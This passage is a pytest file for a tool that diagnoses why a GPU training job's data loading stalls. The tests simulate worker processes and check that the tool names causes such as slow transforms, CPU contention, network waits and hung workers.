    verdict = scene.play(6).engine.verdict
    assert verdict.cause == "h2d-transfer"
    assert told in verdict.headline


def test_who_answers_is_told_by_the_time_in_which_it_was_asked():
    detail = simulators_that_are_asked().play(6).engine.verdict.detail
    assert "% of the time that it asks them" in detail
    assert "programs" not in detail


def test_a_sample_that_takes_long_now_and_then_keeps_all_who_keep_their_order():
    """One of six runs while the trainer waits, another the next time; the others are ahead."""
    scene = starved(util=55.0, workers=6, run=0.05)
    scene.cpus, scene.cpu_busy = 4, [0.3] * 4
    scene.procs[100].looks = [QUEUE, SLEEP]
    for turn in range(5):
        for pid in range(101, 107):
            scene.procs[pid].run = 0.95 if pid == 101 + turn else 0.05
            scene.procs[pid].looks = [ON_CPU] if pid == 101 + turn else [QUEUE]
        scene.play(1.2)
    verdict = scene.engine.verdict
    assert verdict.cause == "slow-transform"
    assert "now and then a batch takes long" in verdict.detail
    assert "in_order=False" in str(verdict.fixes)


def test_strangers_are_to_blame_for_what_was_waited_behind_them_alone():
    """They took next to nothing, and two fifths of what the job waited was behind them: the rest was behind its own."""
    scene = starved(run=0.3, wait=0.4, looks=[ON_CPU])
    scene.cpus, scene.cpu_busy, scene.probed = 2, [0.4, 0.4], True
    scene.preempts = {(101, 102): 0.12, (102, 101): 0.12, (101, 900): 0.1, (102, 900): 0.06}
    scene.add(Proc(900, comm="cron", cmdline=["/bin/cron"], run=0.08, looks=[ON_CPU])).play(6)
    lost = scene.engine.explain().ledger.by_cause
    waited = sum(lost.values())
    assert 0.0 < lost["cpu-contention"] < 0.5 * waited


def test_of_waits_that_were_sampled_those_seen_are_told():
    """300 a second began before its eyes; how many there were is an estimate, by which it is judged."""
    verdict = sampled_storm().play(6).engine.verdict
    assert verdict.cause == "sync-storm"
    assert verdict.detail.startswith("300 waits per second and more, in which its main thread spins")
    assert _value(verdict, "sync_pct") == pytest.approx(50.0)
    assert _value(verdict, "syncs_per_s") is None


def test_who_waits_for_a_store_on_this_host_is_told_for_how_long():
    """Without probes, where the store's process is known as who feeds it."""
    scene = alone(57.0, 0.57, [SOCKET]).drop(101, 102)
    scene.sampled = {100: (0.5, 0.0, 0.0, 12.0)}
    scene.procs[100].info["other_ends"] = [900]
    scene.add(Proc(900, cmdline=["python", "serve.py"], run=0.03, looks=[SLEEP]))
    verdict = scene.play(4).engine.verdict
    assert verdict.cause == "network-io"
    assert "waited for the network 43%" in verdict.detail


def test_one_that_is_made_anew_is_no_new_set_of_workers():
    """A pool replaces a process that was killed; nobody's epochs have begun anew."""
    scene = starved(util=90.0, workers=0)
    scene.procs[100].looks = [AWAIT]
    scene.add(*(Proc(101 + i, 100, run=0.4, looks=[ON_CPU, AWAIT], start_ticks=50_100 + i) for i in range(4))).play(4)
    scene.drop(102).add(Proc(105, 100, looks=[AWAIT], start_ticks=50_600))
    for proc in scene.procs.values():
        proc.run, proc.switches = 0.0, 0
    scene.gpus[0]["util_pct"] = 0.0
    lost = scene.play(6).engine.explain().ledger.by_cause
    assert lost["hung-worker"] > 5.0
    assert "worker-respawn" not in lost


@pytest.mark.parametrize("works", [True, False], ids=["the others fill the queue", "the others have nothing to do"])
@pytest.mark.parametrize(("code", "told"), [(9, True), (0, False), (None, False)])
def test_one_that_was_killed_before_anybody_looked_is_no_start(works: bool, code: int | None, told: bool):
    """What it was to deliver never comes; one that has ended in peace may merely have prepared something."""
    scene = starved(util=0.0, workers=0)
    scene.procs[100].looks = [READ_PIPE]
    scene.add(*(Proc(101 + i, 100, run=0.3, looks=[ON_CPU] if works else [READ_PIPE], start_ticks=99_100 + i) for i in range(4)))
    scene.procs[100].start_ticks = 99_000
    scene.procs[102].looks, scene.procs[102].run, scene.procs[102].switches = [{"state": "Z", "exit_code": code}], 0.0, 0
    if not works:
        for pid in (101, 103, 104):
            scene.procs[pid].run, scene.procs[pid].switches = 0.0, 0
    verdict = scene.play(8).engine.verdict
    assert (verdict.cause == "hung-worker" and "(102) is dead" in verdict.detail) == told


def test_workers_that_all_try_again_and_again_for_long_hang():
    """Their store is gone. For the first seconds they might merely be slow."""
    scene = starved(util=90.0, workers=6, run=0.3).play(4)
    for pid in range(101, 107):
        scene.procs[pid].run, scene.procs[pid].looks, scene.procs[pid].switches = 0.003, [SLEEP], 2
    scene.gpus[0]["util_pct"] = 0.0
    assert scene.play(3).engine.verdict.cause == "slow-transform"
    verdict = scene.play(4).engine.verdict
    assert verdict.cause == "hung-worker"
    assert "worker 3 (104) and 2 more are asking again and again for something that does not come" in verdict.detail
